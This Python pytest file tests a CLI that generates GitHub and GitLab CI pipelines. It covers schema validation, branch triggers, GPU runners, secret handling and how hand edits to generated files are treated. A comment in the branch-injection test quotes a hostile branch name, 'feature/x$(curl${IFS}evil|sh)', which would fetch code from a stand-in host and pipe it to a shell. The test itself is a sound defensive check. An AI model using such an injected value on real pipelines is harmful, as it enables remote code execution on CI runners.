from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.conftest import Project

SCHEMAS = {"github": "vendor.github-workflows", "gitlab": "vendor.gitlab-ci"}
FILES = {"github": ".github/workflows/torchlane.yml", "gitlab": ".gitlab-ci.yml"}


def _validate(path: Path, schema: str) -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr


def _generate(cli, project: Project, provider: str, *extra: str) -> dict[str, Any]:
    result = cli(["ci", "generate", "--provider", provider, *extra], cwd=project.root)
    assert result.code == 0, result.err
    return yaml.safe_load((project.root / FILES[provider]).read_text())


@pytest.mark.parametrize("provider", ["github", "gitlab"])
def test_generated_pipeline_validates_against_the_published_schema(
    cli, project: Project, provider: str
) -> None:
    _generate(cli, project, provider)
    _validate(project.root / FILES[provider], SCHEMAS[provider])


def test_github_triggers_follow_the_branch_model(cli, project: Project) -> None:
    workflow = _generate(cli, project, "github")
    triggers = workflow["on"]
    assert triggers["push"]["branches"] == [
        "feature/**",
        "bugfix/**",
        "refactor/**",
        "develop",
        "main",
    ]
    assert triggers["push"]["tags"] == ["v*"]
    assert triggers["pull_request"]["branches"] == ["develop", "main"]
    jobs = workflow["jobs"]
    assert "github.base_ref == 'develop'" in jobs["gate"]["if"]
    assert jobs["gate"]["needs"] == "checks"
    assert "--stage gate" in str(jobs["gate"]["steps"])
    assert jobs["gate"]["permissions"]["pull-requests"] == "write"
    assert "refs/heads/develop" in jobs["record"]["if"]
    assert "metrics push" in str(jobs["record"]["steps"])
    assert "github.base_ref == 'main'" in jobs["release"]["if"]
    assert "--context release" in str(jobs["release"]["steps"])
    assert "startsWith(github.ref, 'refs/tags/')" in jobs["image"]["if"]
    assert "$GITHUB_REF_NAME" in str(jobs["image"]["steps"])


def test_github_jobs_clone_full_history_and_notes_and_keep_secrets_out(
    cli, project: Project
) -> None:
    workflow = _generate(cli, project, "github")
    for name in ("checks", "gate", "record", "release"):
        steps = workflow["jobs"][name]["steps"]
        checkout = next(s for s in steps if s.get("uses", "").startswith("actions/checkout"))
        assert checkout["with"]["fetch-depth"] == 0
        assert "refs/notes/*:refs/notes/*" in str(steps)
    text = (project.root / FILES["github"]).read_text()
    assert "${{ secrets.WANDB_API_KEY }}" in text
    comment = next(
        s
        for s in workflow["jobs"]["gate"]["steps"]
        if s.get("uses", "").startswith("actions/github-script")
    )
    assert "<!-- torchlane-report -->" in comment["with"]["script"]
    assert "updateComment" in comment["with"]["script"]


def test_jobs_run_in_the_declared_image_and_gpu_runners(cli, project: Project) -> None:
    config = project.root / ".torchlane.toml"
    config.write_text(
        config.read_text()
        + '\n[env]\ntorch = "2.13.0"\naccelerator = "cuda13.0"\n'
        + '\n[ci]\ngpu_runner_labels = ["self-hosted", "gpu"]\ngitlab_gpu_tags = ["gpu"]\n'
    )
    workflow = _generate(cli, project, "github")
    # Pull-request jobs switch runner and image for forks (tests/ci/test_github.py).
    assert (
        workflow["jobs"]["record"]["container"]["image"]
        == "pytorch/pytorch:2.13.0-cuda13.0-cudnn9-runtime"
    )
    assert "--gpus all" in workflow["jobs"]["gate"]["container"]["options"]
    assert workflow["jobs"]["record"]["runs-on"] == ["self-hosted", "gpu"]
    assert workflow["jobs"]["checks"]["runs-on"] == "ubuntu-latest"
    pipeline = _generate(cli, project, "gitlab")
    assert pipeline["gate"]["tags"] == ["gpu"]
    assert "tags" not in pipeline["checks"]
    assert pipeline["gate"]["image"] == "pytorch/pytorch:2.13.0-cuda13.0-cudnn9-runtime"


def test_gitlab_rules_follow_the_branch_model(cli, project: Project) -> None:
    pipeline = _generate(cli, project, "gitlab")
    assert pipeline["variables"]["GIT_DEPTH"] == "0"
    assert 'CI_MERGE_REQUEST_TARGET_BRANCH_NAME == "develop"' in pipeline["gate"]["rules"][0]["if"]
    assert 'CI_COMMIT_BRANCH == "develop"' in pipeline["record"]["rules"][0]["if"]
    assert 'CI_MERGE_REQUEST_TARGET_BRANCH_NAME == "main"' in pipeline["release"]["rules"][0]["if"]
    assert "CI_COMMIT_TAG" in pipeline["release-image"]["rules"][0]["if"]
    assert pipeline["gate"]["artifacts"]["reports"]["junit"] == "ci-artifacts/torchlane-ci.xml"
    assert any("refs/notes/*:refs/notes/*" in line for line in pipeline["gate"]["before_script"])
    assert "TORCHLANE_GITLAB_TOKEN" in pipeline["gate"]["after_script"][0]


def test_regenerating_is_idempotent_and_hand_edits_are_kept(cli, project: Project) -> None:
    _generate(cli, project, "github")
    path = project.root / FILES["github"]
    again = cli(["ci", "generate", "--provider", "github"], cwd=project.root)
    assert again.code == 0
    assert "unchanged" in again.out
    path.write_text(path.read_text().replace("ubuntu-latest", "my-runner", 1))
    refused = cli(["ci", "generate", "--provider", "github"], cwd=project.root)
    assert refused.code == 1
    assert "hand-edited" in refused.err
    assert "my-runner" in path.read_text()
    assert "-    runs-on: my-runner" in refused.out  # the diff shows what would change
    forced = cli(["ci", "generate", "--provider", "github", "--force"], cwd=project.root)
    assert forced.code == 0
    assert "my-runner" not in path.read_text()


def test_dry_run_writes_nothing(cli, project: Project) -> None:
    result = cli(["ci", "generate", "--provider", "gitlab", "--dry-run"], cwd=project.root)
    assert result.code == 0
    assert "planned" in result.out
    assert "+stages:" in result.out
    assert not (project.root / FILES["gitlab"]).exists()


def test_branch_names_never_reach_a_script_as_text(cli, project: Project) -> None:
    # `feature/x$(curl${IFS}evil|sh)` is a valid branch name: it must stay data, not code.
    _generate(cli, project, "github")
    workflow = yaml.safe_load((project.root / FILES["github"]).read_text())
    for job in workflow["jobs"].values():
        for step in job["steps"]:
            assert "github.head_ref" not in step.get("run", ""), step
            assert "github.ref_name" not in step.get("run", ""), step
    assert (
        workflow["jobs"]["gate"]["env"]["TORCHLANE_BRANCH"]
        == "${{ github.head_ref || github.ref_name }}"
    )


@pytest.mark.parametrize("provider", ["github", "gitlab"])
def test_cuda_evaluation_jobs_need_gpu_runners(cli, project: Project, provider: str) -> None:
    config = project.root / ".torchlane.toml"
    config.write_text(config.read_text() + '\n[env]\ntorch = "2.13.0"\naccelerator = "cuda13.0"\n')
    result = cli(["ci", "generate", "--provider", provider], cwd=project.root)
    assert result.code == 1
    assert "gpu_runner_labels" in result.err or "gitlab_gpu_tags" in result.err
    assert not (project.root / FILES[provider]).exists()
